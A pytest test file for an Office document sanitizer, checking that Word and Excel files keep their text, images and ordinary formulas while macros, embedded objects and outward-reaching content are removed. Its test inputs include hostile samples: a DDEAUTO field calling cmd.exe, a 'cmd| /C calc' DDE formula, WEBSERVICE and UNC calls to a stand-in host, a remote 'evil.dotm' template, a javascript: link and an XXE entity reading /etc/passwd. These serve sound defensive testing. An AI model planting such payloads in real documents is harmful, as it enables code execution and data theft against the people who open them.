"""An Office file stays an Office file that can be edited, and nothing in it acts or reaches out."""

import io
import re
import zipfile
from pathlib import Path

import pytest

from sanitizer.check.check import CheckFailed, check_file
from sanitizer.jail import Jail
from sanitizer.media import DOCX, PPTX, XLSX
from sanitizer.outcome import FileReason, Outcome, Removed
from sanitizer.sanitize import sanitize_file
from tests.sanitizer.samples import CANARY, encoded, exif_with_gps, gradient

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
X = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
SCOPE = f'xmlns:w="{W}" xmlns:r="{OFFICE}/relationships" xmlns:a="{A}"'
PACKAGE = "http://schemas.openxmlformats.org/package/2006"


def relationships(*of: tuple[str, str, str, bool]) -> bytes:
    mode = {True: ' TargetMode="External"', False: ""}
    lines = (
        f'<Relationship Id="{i}" Type="{OFFICE}/relationships/{kind}" Target="{target}"'
        f"{mode[external]}/>"
        for i, kind, target, external in of
    )
    return (
        f'<Relationships xmlns="{PACKAGE}/relationships">{"".join(lines)}</Relationships>'.encode()
    )


def package(main: str, parts: dict[str, bytes]) -> bytes:
    types = f'<Types xmlns="{PACKAGE}/content-types"/>'.encode()
    root = relationships(("rId1", "officeDocument", main, False))
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {"[Content_Types].xml": types, "_rels/.rels": root, **parts}.items():
            archive.writestr(name, data)
    return file.getvalue()


def document(body: str) -> bytes:
    return f"<w:document {SCOPE}><w:body>{body}</w:body></w:document>".encode()


def word(body: str, *of: tuple[str, str, str, bool], **more: bytes) -> bytes:
    parts = {
        "word/document.xml": document(body),
        "word/_rels/document.xml.rels": relationships(*of),
    }
    return package("word/document.xml", parts | {k.replace("__", "/"): v for k, v in more.items()})


def sheet(cells: str) -> bytes:
    book = (
        f'<workbook xmlns="{X}" xmlns:r="{OFFICE}/relationships"><sheets>'
        '<sheet name="表" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    body = f'<worksheet xmlns="{X}"><sheetData><row r="1">{cells}</row></sheetData></worksheet>'
    return package(
        "xl/workbook.xml",
        {
            "xl/workbook.xml": book.encode(),
            "xl/_rels/workbook.xml.rels": relationships(("rId1", "worksheet", "s.xml", False)),
            "xl/s.xml": body.encode(),
        },
    )


def rebuilt(jail: Jail, data: bytes, name: str = "文書.docx") -> tuple[Outcome, dict[str, str]]:
    outcome = sanitize_file(data, name=name, jail=jail)
    assert outcome.state != "refused", outcome.reason
    with zipfile.ZipFile(io.BytesIO(outcome.data)) as archive:
        texts = {n: archive.read(n).decode("utf-8", "replace") for n in archive.namelist()}
    return outcome, texts


TEXT = "<w:p><w:r><w:t>令和八年度</w:t></w:r></w:p>"


def test_words_are_kept(jail: Jail) -> None:
    outcome, parts = rebuilt(jail, word(TEXT))
    assert (outcome.media, outcome.name, outcome.state) == (DOCX, "文書.docx", "clean")
    assert "<w:t>令和八年度</w:t>" in parts["word/document.xml"]


def test_pictures_are_re_rendered(jail: Jail) -> None:
    photo = encoded(gradient(), "JPEG", exif=exif_with_gps())
    body = f'{TEXT}<w:p><w:r><w:drawing><a:blip r:embed="rId9"/></w:drawing></w:r></w:p>'
    of = ("rId9", "image", "media/x", False)
    outcome, parts = rebuilt(jail, word(body, of, word__media__x=photo))
    assert "word/media/image1.jpg" in parts
    assert 'Target="/word/media/image1.jpg"' in parts["word/_rels/document.xml.rels"]
    assert CANARY not in outcome.data
    assert {Removed.GPS, Removed.EXIF} <= set(dict(outcome.receipt.removed))


def test_a_picture_that_cannot_be_drawn_becomes_a_speck(jail: Jail) -> None:
    drawing = '<a:blip r:embed="i"/>'
    metafile = b"\x01\0\0\0" + bytes(40) + CANARY
    data = word(drawing, ("i", "image", "media/x", False), word__media__x=metafile)
    outcome, parts = rebuilt(jail, data)
    assert "word/media/image1.png" in parts
    assert dict(outcome.receipt.removed)[Removed.PICTURE] == 1


def test_the_words_of_a_text_box_are_kept_without_the_box(jail: Jail) -> None:
    box = f'<v:shape xmlns:v="urn:v"><w:txbxContent>{TEXT}</w:txbxContent></v:shape>'
    body = f"<w:p><w:r><w:t>前</w:t></w:r><w:r><w:pict>{box}</w:pict></w:r></w:p>{TEXT}"
    outcome, parts = rebuilt(jail, word(body))
    assert parts["word/document.xml"].count("令和八年度") == 2
    assert dict(outcome.receipt.removed) == {Removed.SHAPE: 1}


@pytest.mark.parametrize(
    "field",
    [
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
        "INCLUDEPICTURE http://192.0.2.1/x.png",
        "HYPERLINK http://192.0.2.1",
        "MACROBUTTON x",
        "IMPORT x",
        " ddeauto x",
    ],
)
def test_fields_that_reach_out_are_silenced(jail: Jail, field: str) -> None:
    half = len(field) // 2
    pieces = "".join(
        f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (field[:half], field[half:])
    )
    complete = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    simple = f'<w:p><w:fldSimple w:instr="{field}"><w:r><w:t>結果</w:t></w:r></w:fldSimple></w:p>'
    for body in (complete, simple):
        outcome, parts = rebuilt(jail, word(body))
        assert dict(outcome.receipt.removed) == {Removed.FIELD: 1}
        assert field.strip()[:7] not in parts["word/document.xml"]
        assert "結果" in parts["word/document.xml"]


def test_fields_of_the_document_itself_are_kept(jail: Jail) -> None:
    result = "<w:r><w:t>1</w:t></w:r>"
    body = f'<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT ">{result}</w:fldSimple></w:p>'
    outcome, parts = rebuilt(jail, word(body))
    assert outcome.state == "clean"
    assert " PAGE " in parts["word/document.xml"]


def test_a_field_made_of_anothers_result_is_silenced(jail: Jail) -> None:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    inner = f"{begin}<w:r><w:instrText>QUOTE DDEAUTO</w:instrText></w:r>{end}"
    body = f"<w:p>{begin}{inner}<w:r><w:instrText> = 1</w:instrText></w:r>{end}</w:p>"
    outcome, _ = rebuilt(jail, word(body))
    assert dict(outcome.receipt.removed) == {Removed.FIELD: 1}


@pytest.mark.parametrize(
    ("formula", "is_kept"),
    [
        ("SUM(A1:A9)", True),
        ("IF(B1&gt;0,&quot;有&quot;,&quot;無&quot;)", True),
        ("WEBSERVICE(&quot;http://192.0.2.1&quot;)", False),
        ("cmd|&apos; /C calc&apos;!A0", False),
        ("[1]Sheet1!A1", False),
        ("HYPERLINK(&quot;x&quot;)", False),
        ("_xlfn.IMAGE (A1)", False),
        ("&apos;\\\\192.0.2.1\\x\\[a.xlsx]S&apos;!A1", False),
    ],
)
def test_formulas_are_kept_unless_they_reach_out(jail: Jail, formula: str, is_kept: bool) -> None:
    outcome, parts = rebuilt(jail, sheet(f'<c r="A1"><f>{formula}</f><v>12</v></c>'), "表.xlsx")
    assert outcome.media == XLSX
    part = parts["xl/worksheets/sheet1.xml"]
    assert (Removed.FORMULA in dict(outcome.receipt.removed)) != is_kept
    assert "<x:v>12</x:v>" in part
    assert ("<x:f" in part) == is_kept


def test_macros_and_all_else_that_is_no_part_of_the_text_stay_behind(jail: Jail) -> None:
    extra = {
        "word/vbaProject.bin": CANARY,
        "word/embeddings/oleObject1.bin": CANARY,
        "word/activeX/activeX1.xml": CANARY,
        "customXml/item1.xml": CANARY,
        "docProps/core.xml": CANARY,
        "word/theme/x.bin": CANARY,
    }
    parts = {
        "word/document.xml": document(f"{TEXT}<w:object/>"),
        "word/_rels/document.xml.rels": relationships(
            ("a", "oleObject", "embeddings/oleObject1.bin", False),
            ("b", "attachedTemplate", "http://192.0.2.1/evil.dotm", True),
            ("c", "image", "http://192.0.2.1/beacon.png", True),
            ("d", "hyperlink", "javascript:alert(1)", True),
        ),
        **extra,
    }
    outcome, texts = rebuilt(jail, package("word/document.xml", parts), "x.docm")
    assert outcome.name == "x.docx"
    assert CANARY not in outcome.data
    assert "192.0.2.1" not in "".join(texts.values())
    assert "javascript" not in "".join(texts.values())
    removed = dict(outcome.receipt.removed)
    assert removed[Removed.MACRO] == removed[Removed.ACTIVE_CONTROL] == 1
    assert removed[Removed.EXTERNAL_LINK] == 3


def test_a_link_to_the_web_is_kept(jail: Jail) -> None:
    body = '<w:p><w:hyperlink r:id="h"><w:r><w:t>市</w:t></w:r></w:hyperlink></w:p>'
    web = ("h", "hyperlink", "https://example.com/?a=1&amp;b=2", True)
    _, parts = rebuilt(jail, word(body, web))
    assert "https://example.com/?a=1&amp;b=2" in parts["word/_rels/document.xml.rels"]


@pytest.mark.parametrize(
    "hostile",
    [
        f'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document xmlns:w="{W}"/>',
        "<w:document>",
        "",
    ],
)
def test_xml_that_no_office_program_writes_is_refused(jail: Jail, hostile: str) -> None:
    data = package("word/document.xml", {"word/document.xml": hostile.encode()})
    assert sanitize_file(data, name="x.docx", jail=jail).reason is FileReason.BROKEN


def test_a_macro_under_a_harmless_name_is_refused(jail: Jail) -> None:
    data = package("word/document.xml", {"word/document.xml": b"<a/>", "word/vbaProject.bin": b"x"})
    assert sanitize_file(data, name="x.docx", jail=jail).reason is FileReason.KIND_MISMATCH


def test_real_office_files_are_rebuilt_and_the_wild_ones_do_not_pass_the_check(
    jail: Jail, corpus: Path
) -> None:
    refused, seen = [], 0
    for path in sorted((corpus / "poi").iterdir()):
        if path.suffix not in {".docx", ".xlsx", ".pptx"} or re.match("cluster|crash", path.name):
            continue
        data = path.read_bytes()
        if len(data) > 40_000 or data[:2] != b"PK":
            continue
        seen += 1
        outcome = sanitize_file(data, name=path.name, jail=jail)
        if outcome.state == "refused":
            refused.append((path.name, outcome.reason))
        for media in (DOCX, XLSX, PPTX):
            with pytest.raises(CheckFailed):
                check_file(media, data)
    assert len(refused) <= 0.1 * seen, refused
